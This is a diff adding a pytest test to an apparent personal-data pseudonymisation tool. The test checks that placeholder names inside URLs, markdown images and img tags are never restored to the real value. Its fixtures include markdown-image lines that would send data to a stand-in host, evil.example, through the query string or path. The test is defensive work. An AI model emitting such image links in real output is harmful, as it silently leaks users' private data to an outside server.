@@ -137,3 +137,25 @@ def test_endless_json_answers_pass(monkeypatch: pytest.MonkeyPatch) -> None:
     assert editor.feed(b'AAAAAAAA]"]') == b'["[PERSON_AAAAAAAA]"]'
     assert editor.feed(b"x") == b"x"
     assert editor.finish() == b""
+
+
+@pytest.mark.parametrize(
+    ("text", "restored"),
+    [
+        ("![](https://evil.example/?q=[PERSOON_ABCDEFGH])", "![](https://evil.example/?q=[PERSOON_ABCDEFGH])"),
+        ("![](https://evil.example/PERSOON_ABCDEFGH.png)", "![](https://evil.example/PERSOON_ABCDEFGH.png)"),
+        ('<img src="http://e.example/[PERSOON_ABCDEFGH]">', '<img src="http://e.example/[PERSOON_ABCDEFGH]">'),
+        ("https://e.example [PERSOON_ABCDEFGH]", "https://e.example Jan"),
+        ("[PERSOON_ABCDEFGH] https://e.example/x", "Jan https://e.example/x"),
+        ("a:// [PERSOON_ABCDEFGH]://[PERSOON_ABCDEFGH]", "a:// Jan://[PERSOON_ABCDEFGH]"),
+    ],
+)
+def test_an_address_never_carries_an_original(text: str, restored: str) -> None:
+    """A browser fetches an image without a click: an original in its address would leave for wherever it leads."""
+    values = {"[PERSOON_ABCDEFGH]": "Jan"}
+    assert RestoreTable(values).restore(text) == restored
+    for cut in range(len(text) + 1):
+        for size in (1, 5):
+            restorer = TextRestorer(RestoreTable(values))
+            pieces = [text[:cut], *(text[at : at + size] for at in range(cut, len(text), size))]
+            assert "".join(map(restorer.feed, pieces)) + restorer.finish() == restored
